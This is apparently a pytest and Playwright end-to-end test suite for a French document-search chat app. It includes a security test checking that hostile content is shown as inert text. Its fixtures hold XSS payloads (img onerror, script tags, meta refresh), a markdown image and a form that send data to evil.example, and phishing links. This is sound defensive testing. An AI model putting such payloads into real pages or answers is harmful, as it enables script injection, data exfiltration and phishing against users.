"""The web chat in a real headless Chromium (Debian's package, driven by Playwright)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.conftest import CHROMIUM, USERS, Page, RunningApp, start_app
from tests.fakes import ScriptedBackend

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="Chromium missing: run `make setup-test`")

EVIL = "evil.example"
HOSTILE_PAGE = f"""<!doctype html><html><head>
<title>Partenariat &lt;img src=https://{EVIL}/titre.png onerror="window.pwned='titre'"&gt;</title>
<script>window.pwned = 'document';</script></head>
<body><h1>Partenariat &lt;img src=https://{EVIL}/titre.png onerror="window.pwned='titre'"&gt;</h1>
<p>Le partenariat hospitalier entre Dakar et Bordeaux a été signé en 2021 et forme chaque année 12 sages-femmes.</p>
<p><img src="https://{EVIL}/doc.png" onerror="window.pwned='img'"> Texte &lt;script&gt;window.pwned='texte'&lt;/script&gt;
![](https://{EVIL}/markdown.png) &lt;form action=https://{EVIL}&gt;&lt;input name=p&gt;&lt;/form&gt;</p>
<p>Le partenariat hospitalier se poursuit : inscrivez-vous sur https://{EVIL}/login ou www.phishing.example/compte.</p>
<pre>```mermaid
graph TD; A[Le partenariat hospitalier] --> B; click A "https://{EVIL}/clic"
```</pre>
</body></html>"""
HOSTILE_ANSWER = (
    "Le partenariat hospitalier entre Dakar et Bordeaux a été signé en 2021 [1].\n\n"
    f"Voir <img src=https://{EVIL}/answer.png onerror=\"window.pwned='answer'\"> "
    f"![photo](https://{EVIL}/leak.png?q=question) <script>window.pwned='script'</script> "
    f'<form action="https://{EVIL}/steal"><input name=motdepasse></form> '
    f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/"> '
    f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">cliquez</div>'
    f' Connectez-vous sur https://{EVIL}/login ou www.phishing.example.\n\n```mermaid\ngraph TD; A-->B; click A "https://{EVIL}/"\n```'
)
HOSTILE_QUESTION = "Quand le partenariat hospitalier entre Dakar et Bordeaux a-t-il été signé ?"


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory, real_embedder) -> Iterator[RunningApp]:  # type: ignore[no-untyped-def]
    backend = ScriptedBackend(fn=lambda messages: HOSTILE_ANSWER)
    yield from start_app(
        tmp_path_factory.mktemp("hostile"), real_embedder, backend, users=True, extra_docs={"partenaire.html": HOSTILE_PAGE}
    )


def wait_idle(page) -> None:  # type: ignore[no-untyped-def]
    """Wait for the checked answer: its sources are offered in the viewer's picker only then."""
    page.locator("#source-pick label").first.wait_for(timeout=240_000)
    page.wait_for_function("() => !document.querySelector('#chat-input textarea').disabled", timeout=240_000)


def log_in(page, url: str, name: str) -> None:  # type: ignore[no-untyped-def]
    page.goto(url)
    page.locator("#username").fill(name)
    page.locator("#password").fill(USERS[name][0])
    page.locator("#login-form button").click()
    page.locator("#chat-input textarea").wait_for(timeout=60_000)


def ask(page, question: str) -> None:  # type: ignore[no-untyped-def]
    page.locator("#chat-input textarea").fill(question)
    page.locator("#chat-input textarea").press("Enter")


def test_ask_see_sources_then_answer_and_download_the_source(web_app: RunningApp, page, artifacts: Path) -> None:  # type: ignore[no-untyped-def]
    page.goto(web_app.url)
    ask(page, "Combien d'entreprises françaises la FHAC fédère-t-elle aujourd'hui ?")
    page.locator(".thought-group", has_text="Sources trouvées").wait_for(timeout=60_000)
    sources = page.locator(".thought-group", has_text="Sources")
    wait_idle(page)
    bot = page.get_by_test_id("bot").last
    assert "135" in bot.inner_text()
    assert "sources" in page.locator("#backend-line").inner_text()
    sources.locator(".title").first.click()
    content = sources.locator(".content")
    content.wait_for()
    assert "000_1bb8a8b098313e5b.txt" in content.inner_text()
    assert content.locator("mark").count() >= 1, "the quoted span is highlighted in its passage"
    page.locator("#source-pick label").first.click()
    viewer = page.locator("#viewer")
    viewer.locator("mark").wait_for(timeout=30_000)
    assert "135 entreprises françaises" in viewer.locator("mark").inner_text()
    with page.expect_download() as download:
        viewer.locator("a.download").click()
    assert download.value.suggested_filename == "000_1bb8a8b098313e5b.txt"
    page.screenshot(path=str(artifacts / "chat-answer-with-sources.png"), full_page=True, animations="disabled")


def test_abstention_is_visible(web_app: RunningApp, page, artifacts: Path) -> None:  # type: ignore[no-untyped-def]
    page.goto(web_app.url)
    ask(page, "Quelle est la capitale de l'Australie ?")
    page.locator(".thought-group", has_text="Passages les plus proches").wait_for(timeout=240_000)
    wait_idle(page)
    assert "Abstention" in page.get_by_test_id("bot").last.inner_text()
    page.locator("#new-chat").click()
    page.wait_for_function("() => document.querySelectorAll('[data-testid=bot]').length === 0")


def test_admin_upload_of_a_bad_file_shows_the_error(web_app: RunningApp, page, artifacts: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    bad = tmp_path / "rapport-corrompu.pdf"
    bad.write_bytes(b"%PDF-1.4 ceci n'est pas un vrai PDF" * 20)
    page.goto(web_app.url)
    page.get_by_role("tab", name="Admin").click()
    page.locator("#status").get_by_text("documents").first.wait_for(timeout=30_000)
    page.locator("#upload input[type=file]").set_input_files(str(bad))
    page.locator("#add-files").click()
    page.locator("#upload-report").get_by_text("rapport-corrompu.pdf").wait_for(timeout=30_000)
    page.locator("#rebuild").click()
    report = page.locator("#rebuild-report")
    report.get_by_text("échec").wait_for(timeout=240_000)
    text = report.inner_text()
    assert "rapport-corrompu.pdf" in text and "PDF illisible ou corrompu" in text
    page.screenshot(path=str(artifacts / "admin-rebuild-report.png"), full_page=True)
    (web_app.docs / "rapport-corrompu.pdf").unlink()


def test_admin_logs_in_and_uses_the_admin_tab(web_app_login: RunningApp, page, artifacts: Path) -> None:  # type: ignore[no-untyped-def]
    log_in(page, web_app_login.url, "alice")
    tab = page.get_by_role("tab", name="Admin")
    tab.wait_for(timeout=30_000)
    tab.click()
    page.locator("#status").get_by_text("5 documents").first.wait_for(timeout=30_000)
    page.screenshot(path=str(artifacts / "admin-logged-in.png"), full_page=True)


def test_staff_never_see_the_admin_tab(web_app_login: RunningApp, page) -> None:  # type: ignore[no-untyped-def]
    log_in(page, web_app_login.url, "bob")
    page.get_by_role("tab", name="Discussion").wait_for()
    page.wait_for_timeout(1500)  # the page's load event has run (it would show the tab to an admin)
    assert page.get_by_role("tab", name="Admin").count() == 0
    assert "réservée" not in page.content()


def test_wrong_password_is_said_in_french(web_app_login: RunningApp, page) -> None:  # type: ignore[no-untyped-def]
    page.goto(web_app_login.url)
    page.locator("#username").fill("bob")
    page.locator("#password").fill("pas le bon")
    page.locator("#login-form button").click()
    assert "incorrect" in page.locator("#login-error").inner_text()


def test_hostile_document_answer_and_title_run_nothing_and_fetch_nothing(
    hostile_app: RunningApp, session: Page, artifacts: Path
) -> None:
    page = session.page
    log_in(page, hostile_app.url, "alice")  # an admin: the most to lose
    ask(page, HOSTILE_QUESTION)
    page.locator(".thought-group", has_text="Sources").wait_for(timeout=60_000)
    wait_idle(page)
    answer = page.get_by_test_id("bot").last
    text = answer.inner_text()
    assert "2021" in text and "onerror" in text, "the hostile answer is shown, as text"
    assert answer.locator("img[src*='evil'], form, script, meta, iframe, [onerror]").count() == 0
    sources = page.locator(".thought-group", has_text="Sources")
    sources.locator(".title").first.click()
    sources.locator(".content").wait_for()
    page.locator("#source-pick label", has_text="partenaire.html").first.click()
    page.locator("#viewer .passage-main").wait_for(timeout=30_000)
    with page.expect_download() as download:
        page.locator("#viewer a.download").click()
    assert download.value.suggested_filename == "partenaire.html", "the HTML document is a download, never a page"
    page.get_by_role("tab", name="Admin").click()
    page.locator("#status").get_by_text("partenaire.html").first.wait_for(timeout=30_000)
    assert "onerror" in page.locator("#status").inner_text(), "the hostile title is listed as text"
    page.wait_for_timeout(1000)
    assert page.evaluate("() => window.pwned") is None, "no script ran"
    assert page.locator("img[src*='evil'], form[action*='evil'], meta[http-equiv]").count() == 0
    links = page.locator("a[href*='evil'], a[href*='phishing']")
    assert links.count() == 0, "bare addresses of documents and answers are text, not links"
    assert page.locator(".mermaid, svg[id*='mermaid'], pre.mermaid").count() == 0, "no diagram drawn from a fence"
    assert session.outside == [], f"nothing fetched outside: {session.outside}"
    assert session.dialogs == []
    page.screenshot(path=str(artifacts / "hostile-content.png"), full_page=True, animations="disabled")
    direct = page.request.get(hostile_app.url + "document/partenaire.html")
    assert (
        direct.headers["content-disposition"].startswith("attachment") and direct.headers["x-content-type-options"] == "nosniff"
    )
